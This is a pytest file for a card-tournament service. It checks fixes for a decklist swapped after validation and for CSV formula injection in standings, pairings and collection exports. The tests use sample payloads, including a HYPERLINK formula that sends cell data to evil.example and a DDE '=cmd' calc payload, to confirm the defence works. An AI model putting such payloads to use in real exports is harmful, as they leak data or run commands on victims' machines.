"""The outside probe's findings about tournaments and exports (SECURITY.md): a decklist swapped after it passed
(finding 2) and formulas in CSV exports (finding 11)."""

from __future__ import annotations

import csv
import io
import pathlib
import re

import pytest

from service.platform.csv_safe import neutralise
from tests.cards.conftest import admin, arcane_set, catalog, import_doc  # noqa: F401  (fixtures)
from tests.service.test_errors import assert_problem
from tests.tournaments.helpers import add_guests, create, pair, play_round, user_id
from tests.tournaments.test_players_api import LEGAL_DECK

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,1)", "@cmd", "-2+3", "=1+1"]


def _entered_with_deck(client, organiser: str, tid: str) -> tuple[str, str, str]:
    player = client.new_user_token()
    pid = client.post(
        f"/v1/tournaments/{tid}/players", token=organiser, json={"user_id": user_id(client, player)}
    ).get_json()["id"]
    deck = client.post("/v1/decks", token=player, json={"ruleset": "arcane", "name": "Burn", "cards": LEGAL_DECK})
    deck_id = deck.get_json()["id"]
    ok = client.post(f"/v1/tournaments/{tid}/players/{pid}/deck", token=player, json={"deck_id": deck_id})
    assert ok.status_code == 200 and ok.get_json()["legal"] is True
    return player, pid, deck_id


def test_finding_02_a_decklist_made_illegal_after_it_passed_blocks_the_lock(client, catalog):  # noqa: F811
    organiser = client.new_user_token()
    tid = create(client, organiser, deck_format="casual")["id"]
    player, pid, deck_id = _entered_with_deck(client, organiser, tid)
    add_guests(client, organiser, tid, ["Guest"])
    swapped = [{"card_id": "tst1-001", "quantity": 40}]  # 40 copies of one card: no longer legal
    put = client.put(f"/v1/decks/{deck_id}", token=player, json={"ruleset": "arcane", "name": "Burn", "cards": swapped})
    assert put.status_code == 200
    problem = assert_problem(client.post(f"/v1/tournaments/{tid}/rounds", token=organiser), 409, "illegal-decklists")
    [blocked] = problem["players"]
    assert blocked["player_id"] == pid and blocked["problems"] and all(p["rule"] for p in blocked["problems"])
    assert client.get(f"/v1/tournaments/{tid}/rounds/1").status_code == 404  # nothing was paired or locked
    me = next(p for p in client.get(f"/v1/tournaments/{tid}/players").get_json()["items"] if p["id"] == pid)
    assert me["decklist_locked"] is False
    # the player makes it legal again (or submits another deck): round 1 pairs and locks that list
    put = client.put(
        f"/v1/decks/{deck_id}", token=player, json={"ruleset": "arcane", "name": "Burn", "cards": LEGAL_DECK}
    )
    assert put.status_code == 200
    pair(client, organiser, tid)
    locked = client.get(f"/v1/tournaments/{tid}/players/{pid}/deck", token=organiser).get_json()
    assert locked["locked"] is True and locked["card_count"] == 41


def test_finding_02_a_submitted_deck_deleted_before_the_lock_blocks_it(client, catalog):  # noqa: F811
    organiser = client.new_user_token()
    tid = create(client, organiser, deck_format="casual")["id"]
    player, pid, deck_id = _entered_with_deck(client, organiser, tid)
    add_guests(client, organiser, tid, ["Guest"])
    assert client.delete(f"/v1/decks/{deck_id}", token=player).status_code == 204
    problem = assert_problem(client.post(f"/v1/tournaments/{tid}/rounds", token=organiser), 409, "illegal-decklists")
    assert problem["players"][0]["player_id"] == pid and "deleted" in problem["players"][0]["problems"][0]["detail"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_finding_11_standings_and_pairings_csv_neutralise_formulas(client):
    organiser = client.new_user_token()
    tid = create(client, organiser)["id"]
    add_guests(client, organiser, tid, [*FORMULAS, "Plain Name"])
    round_one = pair(client, organiser, tid)
    play_round(client, organiser, tid, round_one)
    standings = client.get(f"/v1/tournaments/{tid}/standings/export?format=csv").get_data(as_text=True)
    pairings = client.get(f"/v1/tournaments/{tid}/rounds/1/pairings?format=csv").get_data(as_text=True)
    for text in (standings, pairings):
        _assert_no_formula(text)  # without the fix: =HYPERLINK(…), +SUM(1,1), @cmd and -2+3 as they were
        cells = _cells(text)
        assert "'+SUM(1,1)" in cells and "'@cmd" in cells and "'-2+3" in cells and "Plain Name" in cells
    html = client.get(f"/v1/tournaments/{tid}/standings/export?format=html").get_data(as_text=True)
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in html  # HTML is escaped, not prefixed


def test_finding_11_collection_csv_neutralises_formulas(client, admin):  # noqa: F811
    doc = arcane_set()
    doc["cards"][0]["name"] = "=cmd|' /C calc'!A0"
    assert import_doc(client, admin, doc).status_code == 201
    token = client.new_user_token()
    assert client.put("/v1/me/collection/tst1-001", token=token, json={"quantity": 2}).status_code == 204
    text = client.get("/v1/me/collection/export.csv", token=token).get_data(as_text=True)
    _assert_no_formula(text)
    assert "'=cmd|' /C calc'!A0" in _cells(text)


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_finding_11_every_formula_start_owasp_lists_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell
    assert neutralise(-1) == -1 and neutralise("plain") == "plain"


def test_finding_11_every_csv_export_writes_through_csv_safe():
    """The print run's codes.csv and any export added later: no module but csv_safe writes CSV."""
    root = pathlib.Path(__file__).resolve().parents[2] / "service"
    writers = [
        p.relative_to(root).as_posix()
        for p in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())
    ]
    assert writers == ["platform/csv_safe.py"]
